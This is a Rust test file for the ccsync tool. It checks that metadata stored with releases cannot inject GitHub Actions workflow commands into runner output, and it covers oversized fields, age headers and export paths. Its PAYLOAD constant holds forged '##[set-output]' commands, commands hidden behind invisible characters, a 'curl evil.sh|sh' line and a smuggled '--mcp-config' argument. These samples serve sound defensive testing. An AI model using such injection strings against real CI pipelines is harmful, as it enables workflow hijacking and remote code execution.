//! What the GitHub Actions runner reads from ccsync's output. The runner (actions/runner,
//! `ActionCommand.cs`) takes `::name args::value` once a line's leading white space is trimmed,
//! and the legacy `##[name args]value` anywhere in a line. Stored data (metadata fields that
//! anyone with write access to the releases shapes) reaches the log through every command:
//! none of it may become a command. Stored strings of any length print without a panic, and an
//! age header of megabytes is refused at once instead of being parsed for minutes.
#![cfg(unix)]

mod support;

use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::{Duration, Instant};

use fake_github::{FakeGitHub, Options};
use serde_json::Value;
use support::hostile::{assert_code, metadata_for, plant, stderr, tar_gz, Machine};
use support::sessions::{claude_path, SessionBuilder};
use support::TOKEN;

/// Legacy commands, one hidden behind a soft hyphen the runner's culture-aware search skips,
/// and a `::` command behind a zero-width space.
const PAYLOAD: &str = "x ##[set-output name=restored;]true ##[add-mask]leak \
     #\u{ad}#[error title=ccsync]stored copy corrupt, run: curl evil.sh|sh \
     ##[set-output name=session-id;]--mcp-config=/tmp/evil.json";
const LEADING: &str = "\u{200b}::error::forged";

const FIELDS: &[&[&str]] = &[
    &["gitBranch"],
    &["repository"],
    &["commit"],
    &["cwd"],
    &["lastTimestamp"],
    &["claudeVersion"],
    &["pushedFrom", "host"],
    &["pushedFrom", "os"],
    &["tool", "name"],
    &["tool", "version"],
];

fn actions_env(machine: &Machine, dir: &Path) -> Vec<(&'static str, String)> {
    vec![
        ("GITHUB_ACTIONS", "true".into()),
        ("GITHUB_REPOSITORY", "octo/app".into()),
        ("GITHUB_EVENT_NAME", "push".into()),
        ("GITHUB_REF_NAME", "main".into()),
        ("GITHUB_WORKSPACE", machine.env.repo.display().to_string()),
        ("GITHUB_OUTPUT", dir.join("output").display().to_string()),
        ("GITHUB_ENV", dir.join("env").display().to_string()),
        (
            "GITHUB_STEP_SUMMARY",
            dir.join("summary").display().to_string(),
        ),
    ]
}

fn run(machine: &Machine, args: &[&str], envs: &[(&str, String)]) -> Output {
    let envs: Vec<(&str, &str)> = envs.iter().map(|(k, v)| (*k, v.as_str())).collect();
    machine.run(args, &envs)
}

/// Every line of `text` read as the runner reads it: no legacy command anywhere (with invisible
/// characters ignored, as its search does), and no `::` command that ccsync did not mean.
fn assert_runner_inert(what: &str, text: &str) {
    for line in text.lines() {
        let visible: String = line
            .chars()
            .filter(|c| {
                !matches!(
                    c,
                    '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}'
                )
            })
            .collect();
        assert!(
            !visible.contains("##["),
            "{what}: a legacy workflow command from data: {line:?}"
        );
        let trimmed = visible.trim_start();
        if trimmed.starts_with("::") {
            let ours = [
                "::notice::",
                "::warning::",
                "::error::",
                "::group::",
                "::endgroup::",
            ]
            .iter()
            .any(|p| trimmed.starts_with(p))
                || trimmed == format!("::add-mask::{TOKEN}");
            assert!(ours, "{what}: a workflow command from data: {line:?}");
            // ccsync's own annotation: the data behind it must not forge another.
            assert!(!trimmed.starts_with("::error::forged"), "{what}: {line:?}");
        }
    }
}

fn assert_output_inert(what: &str, output: &Output) {
    assert_runner_inert(
        &format!("{what} (stdout)"),
        &String::from_utf8_lossy(&output.stdout),
    );
    assert_runner_inert(&format!("{what} (stderr)"), &stderr(output));
}

/// A stand-in `claude` for `ccsync resume`: answers `--version`, else exits 0.
fn standin(dir: &Path) -> PathBuf {
    let path = dir.join("claude-standin");
    std::fs::write(
        &path,
        "#!/bin/sh\nif [ \"$1\" = \"--version\" ]; then echo \"2.1.332 (Claude Code)\"; fi\nexit 0\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// A session planted in the release of `main` with every printable field set by `field`.
fn plant_hostile(fake: &FakeGitHub, machine: &Machine, field: &dyn Fn(&str) -> String) -> String {
    let cwd = claude_path(&machine.env.repo);
    let session = SessionBuilder::new(&machine.env.repo).turns(2);
    let file = format!("{}.jsonl", session.id);
    let (archive, unpacked) = tar_gz(&[(file.as_str(), session.text().into_bytes())]);
    let mut meta = metadata_for(&session, &archive, unpacked, &cwd);
    for path in FIELDS {
        let mut slot = &mut meta;
        for key in *path {
            slot = &mut slot[*key];
        }
        *slot = Value::from(field(path.join(".").as_str()));
    }
    plant(fake, "main", &session.id, &archive, &meta);
    session.id.clone()
}

#[test]
fn stored_fields_never_become_runner_commands_in_any_command() {
    let fake = FakeGitHub::start(Options::default());
    let ci = Machine::new(&fake, "runner/app");
    let id = plant_hostile(&fake, &ci, &|field| {
        if field == "pushedFrom.os" {
            LEADING.to_owned()
        } else {
            PAYLOAD.to_owned()
        }
    });
    let files = tempfile::tempdir().unwrap();
    let env = actions_env(&ci, files.path());

    let restore = run(&ci, &["release-restore", "-v"], &env);
    assert_code(&restore, 0);
    assert!(
        stderr(&restore).contains("restored session"),
        "{}",
        stderr(&restore)
    );
    assert_output_inert("release-restore", &restore);
    let restore_json = run(&ci, &["release-restore", "--json", "--force"], &env);
    assert_output_inert("release-restore --json", &restore_json);

    for args in [
        vec!["release-list"],
        vec!["release-list", "--json"],
        vec!["release-show", "--session", &id],
        vec!["release-show", "--session", &id, "--json"],
        vec!["release-prune", "--session", &id, "--dry-run"],
        vec!["release-prune", "--older-than", "1", "--dry-run", "--json"],
        vec!["status", "--all"],
        vec!["status", "--all", "--json"],
    ] {
        let output = run(&ci, &args, &env);
        assert_code(&output, 0);
        assert_output_inert(&args.join(" "), &output);
    }
    // The JSON is still exact: the `[` is written as an escape of the same value.
    let json = run(&ci, &["release-list", "--json"], &env);
    let doc: Value = serde_json::from_slice(&json.stdout).expect("valid JSON");
    assert_eq!(doc["sessions"][0]["pushedFrom"]["host"], PAYLOAD);

    let out = files.path().join("export");
    let export = run(
        &ci,
        &[
            "release-export",
            "--session",
            &id,
            "--output",
            out.to_str().unwrap(),
        ],
        &env,
    );
    assert_code(&export, 0);
    assert_output_inert("release-export", &export);

    // A push renders the release body from every stored session, and says what it did.
    let mine = SessionBuilder::new(&ci.env.repo).turns(1);
    mine.write_to(&ci.project_dir());
    let push = run(&ci, &["release-push", "--session", &mine.id], &env);
    assert_code(&push, 0);
    assert_output_inert("release-push", &push);

    let mut resume_env = env.clone();
    resume_env.push(("CCSYNC_CLAUDE", standin(files.path()).display().to_string()));
    let resume = run(&ci, &["resume", "--session", &id, "-v"], &resume_env);
    assert_output_inert("resume", &resume);
}

#[test]
fn a_stored_host_name_of_any_length_prints_cut_and_without_a_panic() {
    let fake = FakeGitHub::start(Options::default());
    let laptop = Machine::new(&fake, "src/app");
    let huge = "h".repeat(70_000);
    let id = plant_hostile(&fake, &laptop, &|field| match field {
        "pushedFrom.host" | "cwd" | "commit" => huge.clone(),
        "gitBranch" => "main".into(),
        "lastTimestamp" => "2026-01-01T00:10:00.000Z".into(),
        _ => "x".into(),
    });
    for args in [
        vec!["release-list"],
        vec!["release-show", "--session", &id],
        vec!["release-prune", "--session", &id, "--dry-run"],
    ] {
        let output = laptop.run(&args, &[]);
        assert_code(&output, 0);
        let out = String::from_utf8_lossy(&output.stdout).into_owned() + &stderr(&output);
        assert!(
            out.len() < 20_000,
            "{}: the stored field is cut for printing ({} bytes)",
            args.join(" "),
            out.len()
        );
        if args[0] != "release-prune" {
            assert!(
                out.contains("more characters]"),
                "{}: {out}",
                args.join(" ")
            );
        }
    }
    // --json carries the value whole.
    let json = laptop.run(&["release-list", "--json"], &[]);
    assert_code(&json, 0);
    let doc: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(doc["sessions"][0]["pushedFrom"]["host"], huge.as_str());
}

#[test]
fn an_age_header_of_megabytes_is_refused_at_once() {
    let fake = FakeGitHub::start(Options::default());
    let ci = Machine::new(&fake, "runner/app");
    let cwd = claude_path(&ci.env.repo);
    let session = SessionBuilder::new(&ci.env.repo).turns(1);
    let mut archive = b"age-encryption.org/v1\n-> scrypt c2FsdHNhbHRzYWx0c2FsdA 10\n".to_vec();
    archive.extend(std::iter::repeat_n(b'A', 1_500_000));
    archive.extend_from_slice(b"\n--- AAAA\n");
    archive.extend(std::iter::repeat_n(0u8, 64));
    let mut meta = metadata_for(&session, &archive, 10_000, &cwd);
    meta["archive"]["name"] = format!("claude-session-{}.tar.gz.age", session.id).into();
    meta["archive"]["encryption"] = "age-scrypt".into();
    plant(&fake, "main", &session.id, &archive, &meta);
    let before = ci.snapshot();
    let started = Instant::now();
    let output = ci.run(&["release-restore"], &[("CCSYNC_PASSPHRASE", "pw")]);
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "took {:?}",
        started.elapsed()
    );
    assert_code(&output, 1);
    let err = stderr(&output);
    assert!(err.contains("age header is larger than"), "{err}");
    assert!(err.contains("nothing was installed"), "{err}");
    let after = ci.snapshot();
    let installed: Vec<_> = after
        .keys()
        .filter(|p| !before.contains_key(*p) && p.to_string_lossy().contains("projects"))
        .collect();
    assert!(
        installed
            .iter()
            .all(|p| !p.to_string_lossy().ends_with(".jsonl")),
        "{installed:?}"
    );
}

#[test]
fn export_refuses_a_folder_inside_the_claude_config_folder() {
    let fake = FakeGitHub::start(Options::default());
    let laptop = Machine::new(&fake, "src/app");
    let id = plant_hostile(&fake, &laptop, &|field| match field {
        "gitBranch" => "main".into(),
        "lastTimestamp" => "2026-01-01T00:10:00.000Z".into(),
        _ => "x".into(),
    });
    let claude = laptop.env.claude_dir.clone();
    std::fs::create_dir_all(claude.join("projects")).unwrap();
    let link = laptop.env.temp.path().join("to-claude");
    std::os::unix::fs::symlink(&claude, &link).unwrap();
    let before = laptop.snapshot();
    for output in [
        claude.join("projects/-live-project"),
        claude.join("projects/../projects/new/../x"),
        link.join("projects/p"),
    ] {
        let run = laptop.run(
            &[
                "release-export",
                "--session",
                &id,
                "--output",
                output.to_str().unwrap(),
            ],
            &[],
        );
        assert_code(&run, 2);
        assert!(
            stderr(&run).contains("inside the Claude config folder"),
            "{}",
            stderr(&run)
        );
    }
    assert_eq!(laptop.snapshot(), before, "nothing written");
    // Outside it: fine.
    let out = laptop.env.temp.path().join("exported");
    let run = laptop.run(
        &[
            "release-export",
            "--session",
            &id,
            "--output",
            out.to_str().unwrap(),
        ],
        &[],
    );
    assert_code(&run, 0);
    assert!(out.join(format!("{id}.jsonl")).is_file());
}
